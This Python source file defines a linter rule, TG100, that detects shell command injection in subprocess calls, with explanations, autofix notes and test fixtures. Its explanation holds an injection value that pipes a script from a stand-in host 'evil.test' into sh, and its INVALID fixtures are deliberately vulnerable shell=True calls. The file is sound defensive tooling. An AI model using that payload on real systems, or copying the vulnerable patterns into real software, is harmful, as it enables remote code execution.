"""TG100: a subprocess started through the shell with a command built at run time."""

from __future__ import annotations

import ast

from tabguard.engine.rule import Invalid, Rule
from tabguard.rules.injection import last_names
from tabguard.rules.injection._shell import (
    SHELL_QUOTED,
    process_call,
    process_call_name,
    SUBPROCESS_CALLS,
    shell_enabled,
    shell_payload,
)
from tabguard.rules.injection._shell_rewrite import shell_fix
from tabguard.rules.injection._strings import all_values_through, is_static, raised, unconfirmed
from tabguard.rules.injection._wrappers import passed_on

_SHELL_ONLY = frozenset({"asyncio.create_subprocess_shell", "asyncio.subprocess.create_subprocess_shell"})


class ShellTrueCommand(Rule):
    id = "TG100"
    name = "subprocess-shell-injection"
    severity = "high"
    confidence = "high"
    lowers_confidence_without_taint = True
    raises_when_tainted = True
    cwe = (78,)
    owasp = "A05:2025"
    message = "`{callee}` runs a shell command built from {what}"
    placeholders = {"callee": "subprocess.run", "what": "a variable"}
    aliases = ("B602", "B604", "S602", "S604")
    # `subprocess.*` counts only with a `shell=` keyword; `getattr`: see `process_call`.
    call_names = last_names(_SHELL_ONLY) | {"subprocess_shell", "getattr"}
    call_keywords = frozenset({"shell"})
    what = (
        "Passes a command string assembled at run time to `{callee}` with the shell enabled, so the "
        "shell parses the whole string, including any value spliced into it."
    )
    why = (
        "With `shell=True` the string goes to `/bin/sh -c`. A value such as `example.com; curl "
        'https://evil.test/x.sh | sh` in `f"ping -c 1 {host}"` ends the intended command and runs the '
        "attacker's: a file name, a branch name or a host name from a form is enough. Quoting by hand "
        "is error-prone (`$(...)`, backticks, newlines)."
    )
    how = (
        "Pass the program and its arguments as a list and leave `shell` off: each element reaches the "
        "program as one argument and nothing is parsed. If a shell feature is really needed, quote each "
        "value with `shlex.quote`."
    )
    example = 'subprocess.run(["ping", "-c", "1", host], check=True, timeout=10)'
    fix_safety = (
        "Unsafe: the rewrite splits the command into a list and drops `shell=True` (offered only when "
        "the text has no pipes, redirections, variables or other shell syntax beyond spaces and quotes). "
        "A quoted value stays one argument, as it was; an unquoted value that used to expand into "
        "several words is now one argument, and non-string values must be passed through `str()`. A "
        "command built in a variable is rewritten where it is built when the call is its only use, "
        'else at the call. A list `["sh", "-c", <command>]` becomes the command\'s own list.'
    )
    references = (
        "https://cwe.mitre.org/data/definitions/78.html",
        "https://docs.python.org/3/library/subprocess.html#security-considerations",
        "https://owasp.org/www-community/attacks/Command_Injection",
    )
    VALID = (
        'import subprocess\nsubprocess.run(["ls", "-l", path])\n',
        'import subprocess\nsubprocess.run("ls -l /tmp", shell=True)\n',
        'import subprocess\nCMD = "uptime"\nsubprocess.run(CMD, shell=True)\n',
        'import subprocess\ndef f():\n    cmd = "df -h"\n    subprocess.run(cmd, shell=True)\n',
        'import subprocess\nsubprocess.run(f"ls {path}", shell=False)\n',
        'import subprocess, shlex\ndef f(path):\n    subprocess.run(["tar", "czf", "out.tgz", path], check=True)\n',
        'import subprocess\ndef f(path):\n    subprocess.run(["ls", "-l", path], shell=True)\n',
        # A wrapper passing its own parameter on (an `exec_command` implementation, a private helper):
        # its callers' commands are checked, a caller passing user input through the helper's summary.
        "import subprocess\nclass Local(Connection):\n    def exec_command(self, cmd, sudoable=True):\n"
        "        cmd = to_bytes(cmd)\n        return subprocess.Popen(cmd, shell=isinstance(cmd, bytes))\n",
        "import subprocess\ndef _sh(command):\n    return subprocess.run(command, shell=True, check=True)\n",
        # Words joined from a list the function fills with constants only.
        'import subprocess\ndef ping():\n    args = ["-c", "1"]\n    args.append("localhost")\n'
        '    subprocess.call("ping " + " ".join(args), shell=True)\n',
    )
    INVALID = (
        # `sys.argv` passed to a private helper that runs it through the shell.
        Invalid(
            "import subprocess, sys\ndef _sh(command):\n    subprocess.run(command, shell=True)\n"
            "def main():\n    _sh(sys.argv[1])\n",
            message="through `_sh()`",
            at=(5, 9),
        ),
        # Given as a keyword argument, and through `functools.partial`.
        Invalid(
            "import subprocess\nfrom flask import request\ndef _sh(command, *, check=True):\n"
            "    subprocess.run(command, shell=True, check=check)\n"
            "@app.route('/run')\ndef run():\n    _sh(command=request.args['cmd'])\n",
            message="through `_sh()`",
            at=(7, 17),
        ),
        Invalid(
            "import functools, subprocess\nfrom flask import request\ndef _sh(cwd, command):\n"
            "    subprocess.run(command, shell=True, cwd=cwd)\n"
            "@app.route('/run')\ndef run():\n    in_tmp = functools.partial(_sh, '/tmp')\n    in_tmp(request.args['cmd'])\n",
            message="through `_sh()`",
            at=(8, 12),
        ),
        Invalid(
            'import subprocess\ndef ping(host):\n    args = ["-c", "1"]\n    args.append(host)\n'
            '    subprocess.call("ping " + " ".join(args), shell=True)\n',
            'import subprocess\ndef ping(host):\n    args = ["-c", "1"]\n    args.append(host)\n'
            '    subprocess.call(["ping", *args])\n',
            message="non-constant",
        ),
        Invalid(
            'import subprocess\ndef ping(host):\n    subprocess.run(f"ping -c 1 {host}", shell=True, check=True)\n',
            'import subprocess\ndef ping(host):\n    subprocess.run(["ping", "-c", "1", host], check=True)\n',
            message="`subprocess.run` runs a shell command built from a non-constant value",
            at=(3, 20, 3, 39),
        ),
        Invalid(
            'import subprocess\nfrom flask import request\n@app.route("/c")\ndef c():\n'
            '    out = subprocess.check_output("git log " + request.args["ref"], shell=True)\n',
            'import subprocess\nfrom flask import request\n@app.route("/c")\ndef c():\n'
            '    out = subprocess.check_output(["git", "log", request.args["ref"]])\n',
            message="built from user input (request.args)",
            at=(5, 35),
        ),
        # Built in a variable the call alone uses: the assignment builds the list.
        Invalid(
            'import subprocess\ndef lookup(domain):\n    cmd = "nslookup " + domain\n'
            "    return subprocess.run(cmd, shell=True, capture_output=True, text=True).stdout\n",
            'import subprocess\ndef lookup(domain):\n    cmd = ["nslookup", domain]\n'
            "    return subprocess.run(cmd, capture_output=True, text=True).stdout\n",
        ),
        # Also logged: the list is written at the call, the string stays for the log.
        Invalid(
            'import subprocess\ndef ping(host):\n    command = "ping -c 4 " + host\n    print("running", command)\n'
            "    return subprocess.check_output(command, shell=True)\n",
            'import subprocess\ndef ping(host):\n    command = "ping -c 4 " + host\n    print("running", command)\n'
            '    return subprocess.check_output(["ping", "-c", "4", host])\n',
        ),
        # `%` formatting, an aliased module, a call over several lines (its layout kept).
        Invalid(
            "import subprocess as sp\ndef resize(name, width):\n    sp.run(\n"
            '        "convert uploads/%s -resize %sx out.png" % (name, width),\n        shell=True,\n        check=True,\n    )\n',
            "import subprocess as sp\ndef resize(name, width):\n    sp.run(\n"
            '        ["convert", f"uploads/{name}", "-resize", f"{width}x", "out.png"],\n        check=True,\n    )\n',
        ),
        # A quoted value was one word for the shell: the quotes go, the value stays one argument.
        Invalid(
            "from subprocess import check_output as co\ndef grep(pattern):\n"
            "    return co(\"grep -r '{}' /var/log/app\".format(pattern), shell=True)\n",
            'from subprocess import check_output as co\ndef grep(pattern):\n    return co(["grep", "-r", pattern, "/var/log/app"])\n',
        ),
        Invalid("import subprocess\ndef f(cmd):\n    subprocess.Popen(cmd, shell=True)\n"),
        Invalid('import subprocess\ndef f(name):\n    subprocess.run(f"grep {name} | wc -l", shell=True)\n'),
        Invalid('import asyncio\nasync def f(name):\n    await asyncio.create_subprocess_shell("echo " + name)\n'),
        Invalid(
            'import subprocess\ndef f(pattern):\n    subprocess.call(["sh", "-c", f"grep -R {pattern} ."], shell=True)\n',
            'import subprocess\ndef f(pattern):\n    subprocess.call(["grep", "-R", pattern, "."])\n',
        ),
        Invalid(
            'import subprocess\ndef handler(event, context):\n    subprocess.Popen(["python3", event["script"]], shell=True)\n'
        ),
        # What the wrapper skip must still report: a helper that builds the command, or one given user input.
        Invalid(
            'import subprocess\ndef _grep(pattern):\n    subprocess.run(f"grep {pattern} app.log", shell=True)\n',
            'import subprocess\ndef _grep(pattern):\n    subprocess.run(["grep", pattern, "app.log"])\n',
        ),
        Invalid(
            "import subprocess\nfrom flask import request\ndef _sh(command):\n    subprocess.run(command, shell=True)\n"
            '@app.route("/run")\ndef run():\n    _sh(request.args["cmd"])\n',
            message="through `_sh()`",
        ),
    )
    TODO = (  # `shell=True` passed in a keyword mapping is not seen
        Invalid(
            'import subprocess\ndef run(cmd):\n    options = {"shell": True}\n    return subprocess.run(cmd, **options)\n'
        ),
    )

    def visit_Call(self, node: ast.Call, ctx) -> None:
        node = process_call(node, ctx)
        if node is None:
            return
        callee = process_call_name(node, ctx)
        if callee in _SHELL_ONLY:
            command = ctx.argument(node, 0, "cmd")
        elif isinstance(node.func, ast.Attribute) and node.func.attr == "subprocess_shell":
            command = ctx.argument(node, 1, "cmd")  # loop.subprocess_shell(protocol_factory, cmd)
        elif callee in SUBPROCESS_CALLS and shell_enabled(node, ctx):
            command = ctx.argument(node, 0, "args")
            if isinstance(command, (ast.List, ast.Tuple)) and command.elts:
                command = _list_command(command.elts, ctx)
        else:
            return
        if command is None or is_static(command, ctx) or all_values_through(command, ctx, SHELL_QUOTED):
            return
        source = ctx.taint(command)
        if source is None and passed_on(command, ctx):
            return  # a wrapper passing its own argument on: its callers' commands are checked
        fix = shell_fix(ctx, node, command) if callee in SUBPROCESS_CALLS else None
        what = f"user input ({source.label})" if source else "a non-constant value"
        ctx.report(
            self,
            command,
            details={"callee": callee, "what": what},
            source=source,
            fix=fix,
            severity=raised(self, source),
            confidence=unconfirmed(self, source),
        )


def _list_command(elts: list[ast.expr], ctx) -> ast.expr | None:
    """The part of a list run with `shell=True` that the shell parses. POSIX runs the first element as
    the command line, so `["bash", "-c", cmd]` shows the code meant to run; Windows joins the whole
    list into one `cmd.exe` line, so user input anywhere in it is parsed as well."""
    first = elts[0]
    if not is_static(first, ctx):
        return first
    payload = shell_payload(first, elts[1:])
    if payload is not None:
        return payload
    return next((e for e in elts[1:] if ctx.taint(e) is not None), None)
